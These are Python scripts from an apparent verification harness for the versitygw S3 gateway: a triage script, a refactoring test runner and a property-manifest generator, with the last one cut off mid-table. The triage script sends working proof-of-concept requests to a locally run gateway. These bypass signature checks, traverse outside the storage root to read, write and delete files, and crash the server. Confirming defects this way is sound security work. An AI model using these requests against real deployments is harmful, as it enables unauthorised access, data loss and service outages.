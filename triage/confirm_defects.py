#!/usr/bin/env python3
"""Triage aid, NOT a registered check (see DESIGN.md, head and section 3).

Reproduces suspected defects against the real gateway binary so that a rule's report on
the unchanged tree can be classified as a genuine defect (failing input shown) rather
than a false alarm.  Usage (offline):

    export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
    (cd /repo && go build -o /tmp/vgw ./cmd/versitygw)
    python3 /verif/triage/confirm_defects.py ; rm -rf /tmp/vgw /tmp/triage

Observed on the pinned tree (2026-09-28):
  T0  bogus-sig PUT /b/k0                    -> 403 (control: plain PUT is verified)
  T1  bogus-sig PUT /evil/                   -> 200, bucket directory created
  T1b bogus-sig PUT /b/?policy               -> 200, user.policy xattr set
  T2  bogus-sig unsigned-trailer PUT /b/k2   -> 200, object stored
  T3  bogus-sig PUT /b/dir/                  -> 200, directory object created
  T4  valid-sig GET /b/../../canary.txt      -> 200 with the canary outside the root
  T4b valid-sig PUT /b/../../pwned           -> 200, file created outside the root
  T4c valid-sig DELETE /b/k?uploadId=../../../../../victimdir -> 204, tree removed
  T5  Range: bytes=-2                        -> 206, no Content-Range, whole body
  T6  PUT /b?ownershipControls, empty rules  -> process exits (index out of range)
  T7  unsigned chunk size -1 (bogus sig)     -> process exits (makeslice)
"""
import http.client, subprocess, time, os, shutil, datetime, hashlib, hmac, sys, socket

ROOT='/tmp/triage/gw/root'; 
shutil.rmtree('/tmp/triage/gw', ignore_errors=True)
os.makedirs(ROOT); os.makedirs(ROOT+'/b')
open('/tmp/triage/gw/canary.txt','w').write('CANARY-OUTSIDE-ROOT')
AK='rootak'; SK='rootsecret'; PORT=17070
def start(extra=[]):
    p=subprocess.Popen(['/tmp/vgw','--access',AK,'--secret',SK,'--port',':%d'%PORT,'--quiet']+extra+['posix',ROOT],stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
    for i in range(50):
        try:
            s=socket.create_connection(('127.0.0.1',PORT),timeout=0.2); s.close(); break
        except Exception: time.sleep(0.1)
    return p
def now(): return datetime.datetime.utcnow().strftime('%Y%m%dT%H%M%SZ')
def bogus_auth(d): 
    return 'AWS4-HMAC-SHA256 Credential=%s/%s/us-east-1/s3/aws4_request,SignedHeaders=host;x-amz-content-sha256;x-amz-date,Signature=%s'%(AK,d[:8],'0'*64)
def req(method,path,headers={},body=b'',raw=True):
    c=http.client.HTTPConnection('127.0.0.1',PORT,timeout=5)
    c.putrequest(method,path,skip_host=False,skip_accept_encoding=True)
    for k,v in headers.items(): c.putheader(k,v)
    c.putheader('Content-Length',str(len(body)))
    c.endheaders(); 
    if body: c.send(body)
    try:
        r=c.getresponse(); data=r.read(); return r.status,data[:300]
    except Exception as e: return 'EXC',repr(e)
def sign(method,path,query='',headers=None,payload_hash='UNSIGNED-PAYLOAD'):
    d=now(); h={'host':'127.0.0.1:%d'%PORT,'x-amz-content-sha256':payload_hash,'x-amz-date':d}
    if headers: h.update({k.lower():v for k,v in headers.items()})
    sh=';'.join(sorted(h))
    import urllib.parse
    cpath=urllib.parse.quote(path,safe='/-_.~')
    creq='\n'.join([method,cpath,query,''.join('%s:%s\n'%(k,h[k]) for k in sorted(h)),sh,payload_hash])
    scope='%s/us-east-1/s3/aws4_request'%d[:8]
    sts='\n'.join(['AWS4-HMAC-SHA256',d,scope,hashlib.sha256(creq.encode()).hexdigest()])
    def hm(k,m): return hmac.new(k,m.encode(),hashlib.sha256).digest()
    k=hm(hm(hm(hm(('AWS4'+SK).encode(),d[:8]),'us-east-1'),'s3'),'aws4_request')
    sig=hmac.new(k,sts.encode(),hashlib.sha256).hexdigest()
    h['Authorization']='AWS4-HMAC-SHA256 Credential=%s/%s,SignedHeaders=%s,Signature=%s'%(AK,scope,sh,sig)
    del h['host']
    return h
p=start()
try:
    d=now()
    # sanity: bogus sig on plain PUT object must fail
    print('T0 bogus-sig PUT /b/k0 ->',req('PUT','/b/k0',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'UNSIGNED-PAYLOAD'},b'hello'), os.path.exists(ROOT+'/b/k0'))
    print('T0b valid-sig PUT /b/kv ->',req('PUT','/b/kv',sign('PUT','/b/kv'),b'hello'), os.path.exists(ROOT+'/b/kv'))
    # T1: unauthenticated create bucket via trailing slash
    print('T1 bogus-sig PUT /evil/ ->',req('PUT','/evil/',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'UNSIGNED-PAYLOAD'}), 'bucket dir exists:',os.path.isdir(ROOT+'/evil'))
    pol=b'{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:*","Resource":["arn:aws:s3:::b","arn:aws:s3:::b/*"]}]}'
    print('T1b bogus-sig PUT /b/?policy ->',req('PUT','/b/?policy',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'UNSIGNED-PAYLOAD'},pol))
    try: print('   policy xattr:',os.getxattr(ROOT+'/b','user.policy')[:60])
    except Exception as e: print('   no policy xattr',e)
    # T2: unsigned trailer chunked upload with bogus signature
    import base64, zlib
    data=b'hello world'
    crc=base64.b64encode(zlib.crc32(data).to_bytes(4,'big')).decode()
    body=(b'%x\r\n'%len(data))+data+b'\r\n0\r\nx-amz-checksum-crc32:'+crc.encode()+b'\r\n\r\n'
    print('T2 bogus-sig unsigned-trailer PUT /b/k2 ->',req('PUT','/b/k2',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'STREAMING-UNSIGNED-PAYLOAD-TRAILER','X-Amz-Trailer':'x-amz-checksum-crc32','X-Amz-Decoded-Content-Length':str(len(data)),'Content-Encoding':'aws-chunked'},body),'stored:',os.path.exists(ROOT+'/b/k2'))
    # T3: directory object w/ bogus sig
    print('T3 bogus-sig PUT /b/dir/ ->',req('PUT','/b/dir/',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'UNSIGNED-PAYLOAD'}),'dir exists:',os.path.isdir(ROOT+'/b/dir'))
    # T4: traversal read with valid signature
    print('T4 valid-sig GET /b/../../canary.txt ->',req('GET','/b/../../canary.txt',sign('GET','/b/../../canary.txt')))
    print('T4b valid-sig PUT /b/../../pwned ->',req('PUT','/b/../../pwned',sign('PUT','/b/../../pwned'),b'x'),'outside file exists:',os.path.exists('/tmp/triage/gw/pwned'))
    # T4c uploadId traversal abort: create victim dir outside
    os.makedirs('/tmp/triage/gw/victimdir/sub',exist_ok=True)
    print('T4c valid-sig DELETE /b/k?uploadId=../../../../../victimdir ->',req('DELETE','/b/k?uploadId=../../../../../victimdir',sign('DELETE','/b/k','uploadId=..%2F..%2F..%2F..%2F..%2Fvictimdir')),'victim exists:',os.path.exists('/tmp/triage/gw/victimdir'))
    # T5: range 206 w/o content-range
    print('T5 valid-sig GET /b/kv Range: bytes=-2 ->',end=' ')
    c=http.client.HTTPConnection('127.0.0.1',PORT,timeout=5); h=sign('GET','/b/kv'); h['Range']='bytes=-2'
    c.request('GET','/b/kv',headers=h); r=c.getresponse(); print(r.status,r.getheader('Content-Range'),r.getheader('Content-Length'),r.read())
    # T6: ownershipControls empty rules panic
    print('T6 valid-sig PUT /b?ownershipControls empty ->',req('PUT','/b?ownershipControls',sign('PUT','/b','ownershipControls='),b'<OwnershipControls></OwnershipControls>'))
    time.sleep(0.3); print('   server alive:',p.poll() is None)
    if p.poll() is not None:
        print(p.stdout.read().decode()[-600:]); p=start()
    # T7: negative chunk size
    d=now()
    print('T7 bogus-sig unsigned chunk size -1 ->',req('PUT','/b/k7',{'Authorization':bogus_auth(d),'X-Amz-Date':d,'X-Amz-Content-Sha256':'STREAMING-UNSIGNED-PAYLOAD-TRAILER','X-Amz-Trailer':'x-amz-checksum-crc32','X-Amz-Decoded-Content-Length':'5'},b'-1\r\nhello\r\n'))
    time.sleep(0.3); print('   server alive:',p.poll() is None)
    if p.poll() is not None:
        print(p.stdout.read().decode()[-600:])
finally:
    if p.poll() is None: p.kill()
