#!/usr/bin/env python3
"""Behaviour-preserving refactorings (the other direction of testing): for every /verif/benign/<id>/patch.diff
apply it to /repo, build, run all checks (no evidence written), record every violation / machinery failure
(each one is a false alarm to be triaged), undo the patch, write meta.json. Never leaves /repo modified."""
import json, os, subprocess, sys, re
B='/verif/benign'
ENV='GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local'
def sh(cmd, **kw): return subprocess.run(cmd, shell=True, capture_output=True, text=True, **kw)
# REPO: the tree the patches are applied to (default /repo; a scratch worktree of /repo at the same commit when
# several shards run in parallel: VGW_META_REPO=/tmp/wt-x); BIN: the checker binary
REPO=os.environ.get('VGW_META_REPO','/repo')
BIN=os.environ.get('VGW_META_BIN','/verif/bin/vgwsa')
assert sh(f'git -C {REPO} diff --quiet').returncode == 0, REPO+' not clean'
only = sys.argv[1:]
for d in sorted(os.listdir(B)):
    if only and d not in only: continue
    p=os.path.join(B,d)
    if not os.path.exists(p+'/patch.diff'): continue
    r=sh(f'git -C {REPO} apply {p}/patch.diff')
    if r.returncode!=0:
        print(d,'PATCH DOES NOT APPLY', r.stderr[:200]); continue
    try:
        b=sh(f'cd {REPO} && env {ENV} go build ./...')
        res=sh(f'VGW_REPO={REPO} {BIN} check -prop all -no-evidence')
        out=res.stdout+res.stderr
    finally:
        sh(f'git -C {REPO} checkout -- . && git -C {REPO} clean -fdq')
    viol=[l for l in out.splitlines() if l.startswith('violation:')]
    broken=[l for l in out.splitlines() if l.startswith('BROKEN')]
    meta={'id':d,'kind':'behaviour-preserving refactoring by an independent sub-agent (property text + scratch worktree only)',
          'builds': b.returncode==0, 'alarms':[l[:400] for l in viol], 'machinery_failures':[l[:400] for l in broken],
          'repo_commit': sh(f'git -C {REPO} rev-parse --short HEAD').stdout.strip()}
    old={}
    if os.path.exists(p+'/meta.json'):
        try: old=json.load(open(p+'/meta.json'))
        except Exception: pass
    for k in ('triage',):
        if k in old: meta[k]=old[k]
    json.dump(meta, open(p+'/meta.json','w'), indent=1)
    print(d, 'SILENT' if not viol and not broken else f'ALARM viol={len(viol)} broken={len(broken)}', '' if b.returncode==0 else 'BUILD-FAIL')
    for l in (viol+broken)[:6]: print('    ', l[:260])
