#!/usr/bin/env python3
"""Behaviour-preserving refactorings (the other direction of testing): for every /verif/benign/<id>/patch.diff
apply it to /repo, build, run all checks (no evidence written), record every violation / machinery failure
(each one is a false alarm to be triaged), undo the patch, write meta.json. Never leaves /repo modified."""
import json, os, subprocess, sys, re
B='/verif/benign'
ENV='GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local'
def sh(cmd, **kw): return subprocess.run(cmd, shell=True, capture_output=True, text=True, **kw)
assert sh('git -C /repo diff --quiet').returncode == 0, '/repo not clean'
only = sys.argv[1:]
for d in sorted(os.listdir(B)):
    if only and d not in only: continue
    p=os.path.join(B,d)
    if not os.path.exists(p+'/patch.diff'): continue
    r=sh(f'git -C /repo apply {p}/patch.diff')
    if r.returncode!=0:
        print(d,'PATCH DOES NOT APPLY', r.stderr[:200]); continue
    try:
        b=sh(f'cd /repo && env {ENV} go build ./...')
        res=sh('/verif/bin/vgwsa check -prop all -no-evidence')
        out=res.stdout+res.stderr
    finally:
        sh('git -C /repo checkout -- . && git -C /repo clean -fdq')
    viol=[l for l in out.splitlines() if l.startswith('violation:')]
    broken=[l for l in out.splitlines() if l.startswith('BROKEN')]
    meta={'id':d,'kind':'behaviour-preserving refactoring by an independent sub-agent (property text + scratch worktree only)',
          'builds': b.returncode==0, 'alarms':[l[:400] for l in viol], 'machinery_failures':[l[:400] for l in broken],
          'repo_commit': sh('git -C /repo rev-parse --short HEAD').stdout.strip()}
    old={}
    if os.path.exists(p+'/meta.json'):
        try: old=json.load(open(p+'/meta.json'))
        except Exception: pass
    for k in ('triage',):
        if k in old: meta[k]=old[k]
    json.dump(meta, open(p+'/meta.json','w'), indent=1)
    print(d, 'SILENT' if not viol and not broken else f'ALARM viol={len(viol)} broken={len(broken)}', '' if b.returncode==0 else 'BUILD-FAIL')
    for l in (viol+broken)[:6]: print('    ', l[:260])
