#!/usr/bin/env python3
"""Generates /verif/MANIFEST.json from the table below (kept next to the checker so the
manifest never drifts from what vgwsa implements)."""
import json, sys

ENV = "GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off"

# property id -> (technique, what is decided, what is not decided / trusted base, design ref)
CLAIMS = {
 "C10": ("cut-reachability on go/ssa CFGs (controllers, auth.CheckObjectAccess, posix retention/versioning) + value-origin slices",
         "Every destructive backend call in the S3 handlers (PutObject, CopyObject, CompleteMultipartUpload, DeleteObject, DeleteObjects) is reachable only through the success edge of auth.CheckObjectAccess taken for the same bucket and keys; CheckObjectAccess fails closed on legal hold, COMPLIANCE and GOVERNANCE-without-bypass edges and examines every listed object; posix.PutObjectRetention cannot overwrite a stored COMPLIANCE retention and a GOVERNANCE one only through the bypass edge; versioning cannot be suspended when an enabled lock configuration exists; the bypass flag derives from the request header / the bypass policy verdict.",
         "Does not decide date arithmetic, sequences of requests, or storage-level bypasses; ParseBucketLockConfigurationInput value handling is out of reach. One known finding (CompleteMultipartUpload has no lock check).",
         "DESIGN.md §4 C10"),
 "C15": ("struct-literal field origins + cut-reachability on go/ssa CFGs + parameter plumbing origins",
         "Every AccessOptions literal carries Readonly<-c.readonly; every mutating backend call is behind a write-class decision carrying the switch; VerifyAccess and VerifyObjectCopyAccess test the switch before any root/admin shortcut and refuse exactly {WRITE, WRITE_ACP}; AclParser refuses bucket creation on the readonly edge; the flag is plumbed unchanged from cmd/versitygw through s3api.New, the router and controllers.New.",
         "The admin API is outside the property; the set of mutating backend methods (T-MUTATING) is a frozen table; behaviour of backends themselves under read-only is not examined (they are not called).",
         "DESIGN.md §4 C15"),
 "C19": ("cut-reachability on go/ssa CFGs + who-may-call + struct-literal obligations per success response + store-after-go aliasing analysis + value-origin slices",
         "SendEvent is reachable only on the err==nil edge of the two response helpers and is invoked nowhere else; every success response of an object-changing backend call carries the event sender, the event type tabled for that operation and (for created objects) the backend's ETag; event senders build per-event data per event (no store into memory already handed to a goroutine) and take batch keys from each decoded element; strings kept in the schema do not alias fiber's reused request buffers.",
         "Delivery, ordering and exactly-once under concurrency are not decided; DeleteObjects emits per requested key from the request body (recorded in DESIGN.md); T-EVENT is a frozen table. Two known findings (size 0 in copy / multipart-complete events).",
         "DESIGN.md §4 C19"),
 "C03": ("cut-reachability on go/ssa CFGs + value-origin slices over AccessOptions literals + route-table extraction",
         "Every backend.Backend call in every S3 handler is reachable only through the success edge of an access decision; each decision literal names this request's ACL/account/bucket/key, uses an action and permission admissible for the guarded backend method (frozen T-ACTION table), batch delete is decided per key, copy checks source and destination, VerifyAccess has no unconditional allow, admin routes sit behind IsAdmin, ListBuckets filters by owner.",
         "Does not decide that a given policy/ACL yields the right verdict (C14 covers the tables) nor the HTTP status; T-ACTION is a hand-frozen oracle; SSA/type information trusted.",
         "DESIGN.md §4 C03"),
}

NOT_YET = "check for this property is not implemented yet in this snapshot of /verif (work in progress; see DESIGN.md §4 for the planned static rules)"

NA = {}

def main():
    props = [json.loads(l) for l in open('/verif/properties.jsonl')]
    checks = []
    na = []
    for p in props:
        pid = p['id']
        if pid in CLAIMS:
            tech, decided, notdecided, ref = CLAIMS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier quick",
                "thorough_cmd": f"/verif/bin/vgwsa check -prop {pid} -tier thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"/verif/bin/vgwsa replay -prop {pid}  # re-evaluates the rules on the current tree and prints the violating constructs listed in {{path}}",
                "engine": "vgwsa",
                "level_claimed": {
                    "category": "other",
                    "text": "Static conformance to repository-specific rules that are structural NECESSARY conditions of the property (the behaviour itself is not decided). Decided: " + decided,
                    "design_ref": ref,
                },
                "level_note": notdecided,
                "technique": "static analysis: " + tech,
            })
        else:
            na.append({"property_id": pid, "reason": NA.get(pid, NOT_YET)})
    m = {
        "version": 1,
        "setup_cmd": f"cd /verif/sa && env {ENV} go build -o /verif/bin/vgwsa . && cd /repo && env {ENV} go build ./... ",
        "hooks": {
            "guard": "verif",
            "enable": "none needed: the checks read source; no file in /repo carries the tag",
            "baseline_off_cmd": "cd /repo && go test -mod=mod -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{
            "name": "vgwsa",
            "path": "/verif/sa",
            "serves_properties": sorted(CLAIMS),
            "kind_free_text": "repository-specific static analyser (go/packages + go/types + go/ssa, x/tools v0.29.0): cut-reachability guard rules, value-origin slices, route/table extraction, who-may-call; loads /repo's working tree on every run",
        }],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks are static (no versitygw code is executed). Known findings: /verif/known_findings.txt. Negative controls (overlay edits) run in the thorough tier and via `vgwsa selftest`.",
    }
    json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
    print("claimed", len(checks), "not_applicable", len(na))

if __name__ == '__main__':
    main()
