#!/usr/bin/env python3
"""Generates /verif/MANIFEST.json from the table below (kept next to the checker so the
manifest never drifts from what vgwsa implements)."""
import json, sys

ENV = "GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GOWORK=off"

# property id -> (technique, what is decided, what is not decided / trusted base, design ref)
CLAIMS = {
 "C01": ("who-may-store (statelessness) over backend packages + attribute-key table agreement between writer and reader functions + struct-literal header forwarding origins + sibling agreement GET/HEAD",
         "No backend method stores to backend-struct fields or package variables (object state never lives in a process); the content-header attribute keys written by storeObjectMetadata equal those read by loadObjectMetaData (posix and scoutfs agree), ETag/checksums/user-metadata prefix/tags are written by PutObject and CompleteMultipartUpload and read by GetObject/HeadObject under the same keys; PutActions forwards every content header, user metadata, tags and the declared length from its own request header; GetActions and HeadObject emit each stored header from the backend result; temp files are private to one upload and multipart completion copies parts by listed part number.",
         "Byte equality, ETag = MD5, and agreement across encodings/sizes quantify over body bytes and are NOT decided.",
         "DESIGN.md §4 C01"),
 "C05": ("publication-protocol rules on go/ssa (may-precede ordering between openTmpFile, attribute stores and link; who-may-unlink inside the publication primitives; temp-file provenance)",
         "Between openTmpFile and link() every attribute of the object being published is written through the temp file's descriptor; link()/fallbackLink()/MoveFile do not unlink the destination before publishing (3 known findings); no path-addressed attribute write on the published object follows link() (4 known findings); temp files come from O_TMPFILE or os.CreateTemp only (never a computed shared name). Evaluated for linux/amd64 and, in the thorough tier, darwin/amd64 (non-O_TMPFILE strategy).",
         "Linearizability over interleavings of filesystem steps is NOT decided (no sound static argument over schedules is in reach); reads by path while a writer publishes are recorded in DESIGN.md, not armed.",
         "DESIGN.md §4 C05"),
 "C06": ("cut-reachability on go/ssa (link behind clean copy, digest-mismatch edges, MD5/SHA-256 installation) + switch/constant table agreement in HashReader + length-comparison guard + checksum field/hash-type pairing",
         "link() is reachable only after the copy into the temp file succeeded and read the body to its end through EOF-transparent wrappers; HashReader verifies every hash type it accepts, fails on mismatch, and returns the inner EOF only past the comparison; Content-MD5 and X-Amz-Content-Sha256 assertions are installed on the immediate and on the deferred branch; the copied byte count is compared with the declared length before publication; every checksum header is parsed, forwarded and wrapped with its own hash type.",
         "That the hash functions compute the right digests and the chunk-signature arithmetic are not decided; azure/s3proxy integrity handling is the SDK's.",
         "DESIGN.md §4 C06"),
 "C07": ("who-may-call / argument-origin rule over every Walk call site + cut rule inside the walk callbacks + marker-origin rule + edge rule on the marker latch + operand rule on marker comparisons in the directory branch",
         "Every listing walk (posix and scoutfs, objects and versions) prunes the temp directory under which temp files and multipart uploads live, the two backends agree on its name, and the walk callback returns fs.SkipDir for pruned names before any object is produced; ListObjectsV2 resumes after the later of start-after and the continuation token; the walk stops comparing with the marker only where a path equals it (WalkDir order is not byte order), and never compares a bare directory name with the marker.",
         "Completeness, ordering, grouping by delimiter and loss-free pagination quantify over key sets and markers (walk order vs key order is data-dependent) and are NOT decided; only these clauses are.",
         "DESIGN.md §4 C07"),
 "C08": ("operand-origin identification of the three completion checks + cut-reachability to the assembly + argument-origin rules for upload-directory derivation, cleanup scope and part selection + zone abstract interpretation (difference bounds, go/ssa) of ParseCopySourceRange and of UploadPartCopy's use of its results",
         "All multipart siblings locate an upload under metaTmpMultipartDir/sha256(unmodified key)/uploadId; completion compares listed with stored part ETags, requires increasing part numbers and the minimum part size, each check has an edge that cannot reach the assembly; the object's ETag is GetMultipartMD5 of the listed parts with the part count as suffix; recursive cleanup names the upload-id directory, abort removes only a found upload; the parts copied are chosen by listed part number; only directory entries are listed as uploads; ParseCopySourceRange returns 0<=start, start+length<=size, length>=1 on every path without int64 wrap-around, and UploadPartCopy reads exactly (start,length) and preallocates exactly length.",
         "Concatenation content, behaviour over interleaved programs of uploads, and weakened (rather than removed) bounds are not decided.",
         "DESIGN.md §4 C08"),
 "C09": ("existence-and-order rules (may-precede) for version preservation + region reachability in DeleteObject + per-iteration must-pass rule in the version-restore loop + condition-origin rule",
         "PutObject and CompleteMultipartUpload save the current version (same key, error checked) before link(), DeleteObject's marker branch saves it before marking; the new ULID is attached through the temp file before publication; a delete without version id reaches no removal; the promote-previous-version loop stores every attribute it read; saving the current version depends on versioning being configured, not on it being Enabled.",
         "Behaviour over programs of operations (exactly-one-latest, listing order, null-version handling) is NOT decided.",
         "DESIGN.md §4 C09"),
 "C11": ("publication-protocol rules shared with C05 + who-may-write-in-place + acquire/release pairing for temp files + removal-after-publication ordering",
         "Same publication rules as C05 (attributes on the unpublished inode, no unlink before link: 3 known findings, no attribute writes after publication: 4 known findings, private temp files) plus: the backends never create/write object files in place, every successful openTmpFile is followed by a deferred cleanup, and CompleteMultipartUpload removes parts/upload directory only after link() succeeded.",
         "The enumeration of kill points is an execution notion and is NOT decided; fsync/durability ordering is not examined.",
         "DESIGN.md §4 C11"),
 "C12": ("reader typestate on go/ssa: literal-EOF guard rules, may-be-EOF return analysis against io.EOF tests, switch/constant table agreement for reader selection, field-store aliasing rule, stash typestate (copy-then-overwrite), bufio slice lifetime rule",
         "The signed reader reports end of stream only after the final chunk signature and, with a trailer, the trailing checksum and trailer signature verified; the unsigned reader only after a validated trailer; an early inner EOF is never passed on as a clean EOF; literal EOF only after the inner reader was drained; NewChunkReader covers every streaming payload type and refuses others, negative chunk sizes are refused; reader state never aliases the caller's buffer; empty chunk signatures are refused and mismatches fail; once the stash was copied to the caller no successful return leaves it in place; no slice lent by bufio.Reader is used after the next read.",
         "Equality of decoded bytes for every fragmentation (the in-place buffer arithmetic) is NOT decided; known baseline weakness: chunk headers split across reads after the first header can be falsely rejected (recorded in DESIGN.md).",
         "DESIGN.md §4 C12"),
 "C16": ("cut-reachability (name validation, mkdir success) + attribute-key table agreement per bucket setting + who-may-remove in DeleteBucket + must-pass rule in isBucketEmpty",
         "CreateBucket is reached only for names that passed IsValidBucketName; posix.CreateBucket writes owner/ACL/settings only after os.Mkdir created the directory; each bucket setting is written, read and deleted under one attribute key that no other setting shares; DeleteBucket removes only behind isBucketEmpty success, which reports empty only after reading the bucket directory; recursive removal of the bucket path after a separate emptiness test is reported (1 known finding).",
         "Races between DeleteBucket and concurrent uploads beyond that construct, ListBuckets paging and restarts are not decided.",
         "DESIGN.md §4 C16"),
 "C18": ("struct-literal field-forwarding obligations between gateway and SDK input types + error-origin rule (handleError) + use-before-check rule + constant-key agreement + statelessness (who-may-store)",
         "Every same-named field of the gateway input is forwarded into the hand-written SDK input literals (frozen object-lock exclusions), required list fields are initialised on every path, every SDK error an S3Proxy method returns passes through handleError, no SDK result is dereferenced before its error is checked, the ACL tag is named by the single aclKey constant, and the proxy keeps no state of its own.",
         "Observational equivalence with a live endpoint is NOT decided (needs an endpoint); only the structural part of field-by-field translation is.",
         "DESIGN.md §4 C18"),
 "C20": ("compiler bounds-check obligations (go build -gcflags=-d=ssa/check_bce) against a reviewed per-function table + allocation-size origin rule + use-before-error-check rule + cross-layer pointer-field agreement + context-local producer/consumer agreement",
         "Every index/slice the compiler cannot prove in bounds lies in a function whose unproven accesses were reviewed (count per function and kind may not grow); no allocation is sized by a number parsed from the request; no (*T, error) result is dereferenced before its error or nil test; every pointer field the posix backend dereferences unconditionally is set by every controller literal; every Locals key asserted without comma-ok has a producer and AclParser's create-branch exclusions cover PutBucketActions' parsedAcl assertions; the writer/reader agreements behind the reviewed bounds hold.",
         "Termination, latency, memory growth in general and panics inside dependencies are not decided; a behaviour-preserving edit that adds a new unprovable-but-safe index alarms until reviewed (stated residual); there is no recover middleware, so any panic ends the process.",
         "DESIGN.md §4 C20"),
 "C02": ("route-table extraction + cut-reachability on go/ssa CFGs of the auth middlewares, deferred-authentication (BIG) atom extraction and handler reachability, drain-before-effect cut rule in the posix backend, literal-EOF typestate on the reader layers",
         "Both auth middlewares (and DecodeURL, MD5, ACL) are registered before every route; every ctx.Next() of the auth middlewares lies behind a signature verdict, the deferred branch that installs the auth reader, or a frozen shortcut, and account/date/expiry/chunk-reader errors fail closed; every handler a deferred-authentication request can reach calls only PutObject/UploadPart with the deferred reader as Body on paths not excluded by IsBigDataAction's own atoms; posix PutObject/UploadPart perform persistent effects only after an io.Copy/io.ReadAll read the Body to its end through EOF-transparent wrappers; auth readers pass the inner EOF only after the check succeeded and chunk readers return a literal io.EOF only after the inner reader reached its end.",
         "Does not decide that the SigV4 computation itself is right (signer unit tests), date arithmetic or canonicalisation; fiber routing facts (route patterns, trailing slash) are trusted as probed; s3proxy/azure are assumed to read Body to EOF inside the SDK. One known finding (version copy before the verdict).",
         "DESIGN.md §4 C02"),
 "C04": ("who-may-call layering over all packages + value-origin slices from request accessors to backend path slots + validator shape and cut rules + route-table order",
         "Filesystem functions are called only from the frozen owner packages; every client string that controllers/middlewares hand to a backend path slot (bucket, key, versionId, uploadId, copy source, batch keys) originates only from accessors validated by DecodeURL, from the copy-source header validated in ParseCopySource, or from a decoded list validated element-wise; DecodeURL validates the decoded path and id queries, fails closed, and hands the router exactly the validated value; the validators reject '.'/'..'/separators and ParseCopySource returns only substrings of what it validated.",
         "Kernel behaviour on odd names (NUL, length), symlink races and bucketlinks are not decided; the posix backend's own use of its parameters is trusted to stay within the slots listed in T-PATHSLOT; the validator check is a shape/necessary-condition check, not a proof of the predicate.",
         "DESIGN.md §4 C04"),
 "C13": ("value-origin slices on go/ssa (parser results to section reader, Content-Length, Content-Range) + cut-reachability + condition-origin analysis of the 206 decision + zone abstract interpretation (difference-bound matrices with trace partitioning over go/ssa) of the range parser and of posix.GetObject's arithmetic on its results",
         "In posix.GetObject the body window, Content-Length and Content-Range all come from one ParseGetObjectRange call applied to the stat size and the request Range, Content-Range only on the isValid edge, the object is opened only after the parser accepted, and a 416 is returned; in GetActions the 206 status depends on the backend result's ContentRange and on no request accessor, and body/length/Content-Range are emitted from the backend result. ParseGetObjectRange is proven, on every path with a nil error, to return 0<=start, start+length<=size, length>=1 when valid, with no int64 wrap-around; under that postcondition posix.GetObject's Content-Range numbers satisfy 0<=first<=last<total, first=start, last-first+1=Content-Length, total=the size parsed against, and the section reader window is (start,length) inside the object.",
         "The header grammar (which Range strings count as malformed/unsupported and fall back to 200) is NOT decided; assumptions of the numeric proof: object size >= 0 and ParseInt of a token that contains no '-' is >= 0 (provenance checked); scoutfs reuses posix.GetObject; azure/s3proxy range handling is remote.",
         "DESIGN.md §4 C13"),
 "C14": ("table agreement over package-level constants and composite literals + cut-reachability/fail-closed rules on the validation chain + evaluation-shape rules on isAllowed/findMatch + guard rule for prefix matching of action names",
         "Every action constant is grantable by name, the object-action list is a subset and agrees with the operation table, every action the gateway decides with is in the supported list; a policy is stored only after ValidatePolicyDocument succeeded on the same bytes and bucket, the validation chain reaches Effect/Principals/Resources/Action validation and swallows no failure, empty statement lists and action/resource kind mismatches are refused; isAllowed yields true only on a matching Allow and a matching Deny returns false at once; findMatch is the conjunction of the three matchers; VerifyBucketPolicy denies unless isAllowed.",
         "The glob matcher (Resources.Match, backtracking) and JSON shape handling are value-level and not decided; action prefix matching is decided only as far as 'only for patterns ending in *'; an equivalent rewrite of the deny fold into a different control shape would need the rule to be re-stated.",
         "DESIGN.md §4 C14"),
 "C17": ("must-hold lock rule (must-pass + no-release-between) on go/ssa + closure-capture origins + cut-reachability write-through order + struct-literal completeness",
         "Every storeIAM call holds the write lock and every store read a read lock; the update closure handed to storeIAM captures only method parameters and parses the data it is given (read-modify-write inside the lock); the store is replaced by temp-file+rename and failures are reported; IAMCache mutates the cache only after the service acknowledged, returns service failures, and cached copies carry all Account fields; accounts.getAccount asks the IAM service for every non-root key and is the only producer of Locals(account).",
         "Histories and interleavings are not decided; external IAM services (ldap, vault, ipa, s3) are not examined; two known findings (cache insert after service call without a spanning lock).",
         "DESIGN.md §4 C17"),
 "C10": ("cut-reachability on go/ssa CFGs (controllers, auth.CheckObjectAccess, posix retention/versioning) + value-origin slices",
         "Every destructive backend call in the S3 handlers (PutObject, CopyObject, CompleteMultipartUpload, DeleteObject, DeleteObjects) is reachable only through the success edge of auth.CheckObjectAccess taken for the same bucket and keys; CheckObjectAccess fails closed on legal hold, COMPLIANCE and GOVERNANCE-without-bypass edges and examines every listed object; posix.PutObjectRetention cannot overwrite a stored COMPLIANCE retention and a GOVERNANCE one only through the bypass edge; versioning cannot be suspended when an enabled lock configuration exists; the bypass flag derives from the request header / the bypass policy verdict.",
         "Does not decide date arithmetic, sequences of requests, or storage-level bypasses; ParseBucketLockConfigurationInput value handling is out of reach. One known finding (CompleteMultipartUpload has no lock check).",
         "DESIGN.md §4 C10"),
 "C15": ("struct-literal field origins + cut-reachability on go/ssa CFGs + parameter plumbing origins",
